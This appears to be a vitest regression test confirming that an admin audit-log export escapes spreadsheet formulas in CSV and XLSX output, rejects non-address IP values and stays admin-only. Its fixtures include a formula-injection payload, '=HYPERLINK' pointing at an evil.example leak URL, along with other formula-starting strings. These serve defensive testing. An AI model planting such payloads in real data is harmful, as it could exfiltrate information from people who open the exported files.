import { parse as parseCsv } from "csv-parse/sync";
import readXlsxFile from "read-excel-file/node";
import { beforeAll, describe, expect, it, vi } from "vitest";
import type { Actor } from "../../lib/auth/policy";
import { recordAudit } from "../../lib/audit/audit";
import { db } from "../../lib/db/client";
import { actorFor } from "./cases-fixtures";

/**
 * Pen test, point 4: a forged client address `=HYPERLINK(…)` recorded in the audit trail came out of the audit
 * export as a live formula. Through the real route handler (GET /admin/audit/export), every text cell that could
 * start a formula now comes out with a leading `'`, in CSV and in XLSX (lib/export/spreadsheet.ts).
 * The session and the locale need a Next request; they are stubbed, everything else is real.
 */

const session = vi.hoisted(() => ({ actor: null as Actor | null }));
vi.mock("@/lib/auth/session", () => ({ getActor: async () => session.actor }));
vi.mock("@/lib/i18n/request", () => ({ currentLocale: async () => "zh-CN" }));

const { GET } = await import("../../app/admin/audit/export/route");

const FORGED_IP = '=HYPERLINK("http://evil.example/?leak","点击查看")';

describe("the audit export neutralises formulas", () => {
  const objectId = `@SUM(A1) ${Date.now()}`;
  let supervisor: Actor;

  beforeAll(async () => {
    session.actor = await actorFor({ loginName: "admin" });
    supervisor = await actorFor({ loginName: "supervisor" });
    await db().$transaction(async (tx) => {
      await recordAudit(tx, {
        actor: { userId: supervisor.userId, role: supervisor.role },
        action: "-case.forged",
        objectType: "Case",
        objectId,
        after: { note: "=1+1" },
        ip: FORGED_IP,
      });
      await recordAudit(tx, {
        actor: { userId: supervisor.userId, role: supervisor.role },
        action: "supervision.comment",
        objectType: "Case",
        objectId,
        ip: "＝1+1",
      });
    });
  });

  const url = (format: string) =>
    `http://localhost/admin/audit/export?format=${format}&objectId=${encodeURIComponent(objectId)}`;

  it("in CSV", async () => {
    const response = await GET(new Request(url("csv")));
    expect(response.status).toBe(200);
    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    const text = await response.text();
    expect(text).not.toMatch(/(^|[,\n])"?=HYPERLINK/);
    const [header, ...rows] = parseCsv(text, { bom: true }) as string[][];
    const cell = (row: string[] | undefined, column: string) => row?.[header!.indexOf(column)];
    expect(rows).toHaveLength(2);
    const [comment, forged] = rows;
    // The trail stores only addresses: the forged one was never written (lib/audit/audit.ts).
    expect(cell(forged, "ip")).toBe("");
    expect(cell(forged, "objectId")).toBe(`'${objectId}`);
    expect(cell(forged, "action")).toBe("'-case.forged");
    // Text that does not start a formula is untouched (the JSON detail starts with `{`).
    expect(cell(forged, "after")).toBe('{"note":"=1+1"}');
    expect(cell(forged, "actorLogin")).toBe("supervisor");
    expect(cell(forged, "id")).toMatch(/^\d+$/);
    expect(cell(comment, "ip")).toBe("");
    expect(cell(comment, "action")).toBe("supervision.comment");
  });

  it("in XLSX", async () => {
    const response = await GET(new Request(url("xlsx")));
    expect(response.status).toBe(200);
    const [sheet] = await readXlsxFile(Buffer.from(await response.arrayBuffer()), { trim: false });
    const [header, ...rows] = sheet!.data as (string | null)[][];
    const cell = (row: (string | null)[] | undefined, column: string) => row?.[header!.indexOf(column)];
    const forged = rows.find((row) => cell(row, "action") === "'-case.forged");
    expect(cell(forged, "ip")).toBeNull();
    expect(cell(forged, "objectId")).toBe(`'${objectId}`);
  });

  it("never stores what is not an address", async () => {
    const rows = await db().auditLog.findMany({ where: { objectId }, select: { ip: true } });
    expect(rows.map((row) => row.ip)).toEqual([null, null]);
  });

  it("still refuses anyone but platform administrators", async () => {
    const admin = session.actor;
    session.actor = supervisor;
    try {
      expect((await GET(new Request(url("csv")))).status).toBe(403);
    } finally {
      session.actor = admin;
    }
  });
});
